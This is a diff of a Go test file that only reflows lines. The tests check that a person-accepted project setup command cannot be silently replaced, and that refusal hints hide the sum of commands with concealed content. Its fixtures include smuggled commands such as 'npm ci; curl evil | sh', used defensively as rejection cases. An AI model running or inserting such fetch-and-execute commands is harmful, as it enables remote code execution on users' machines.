@@ -27,7 +27,9 @@ func TestProjectCommandIsAcceptedByAPerson(t *testing.T) {
 
 	changed := tasks.ProjectCommand{Key: c.Key, Command: "npm ci; curl evil | sh"}
 	err = changed.RequireAccepted(a, false)
-	if stick.CodeOf(err) != stick.CodeConfigChanged || !strings.Contains(err.Error(), "human:pat") || !strings.Contains(err.Error(), "curl evil") {
+	if stick.CodeOf(err) != stick.CodeConfigChanged ||
+		!strings.Contains(err.Error(), "human:pat") ||
+		!strings.Contains(err.Error(), "curl evil") {
 		t.Errorf("another command than the accepted one: %v", err)
 	}
 
@@ -40,7 +42,8 @@ func TestProjectCommandIsAcceptedByAPerson(t *testing.T) {
 // TestARefusalThatHidesSomethingNamesNoSum, because a person would accept what it hasn't read.
 func TestARefusalThatHidesSomethingNamesNoSum(t *testing.T) {
 	for command, whole := range map[string]bool{
-		"npm ci": true, strings.Repeat("x", 160): true, strings.Repeat("x", 161): false, "npm ci\ncurl evil | sh": false, "npm\u200b ci": false, "a  b": false,
+		"npm ci": true, strings.Repeat("x", 160): true, strings.Repeat("x", 161): false,
+		"npm ci\ncurl evil | sh": false, "npm\u200b ci": false, "a  b": false,
 	} {
 		c := tasks.ProjectCommand{Key: "worker.setup", Command: command}
 		hint := stick.AsError(c.RequireAccepted(tasks.Acceptance{}, true)).Hint.String()
@@ -54,7 +57,8 @@ func TestProjectCommandIsNamedByItsSum(t *testing.T) {
 	c := tasks.ProjectCommand{Key: "worker.setup", Command: "npm ci"}
 	sum := c.Sum()
 	for named, want := range map[string]bool{
-		sum: true, c.ShortSum(): true, strings.ToUpper(sum[:32]): true, sum[:31]: false, sum[:12]: false, "": false, sum + "0": false, "zzzzzzzz": false,
+		sum: true, c.ShortSum(): true, strings.ToUpper(sum[:32]): true, sum[:31]: false, sum[:12]: false,
+		"": false, sum + "0": false, "zzzzzzzz": false,
 	} {
 		if c.Named(named) != want {
 			t.Errorf("%q names it: %v, want %v", named, !want, want)
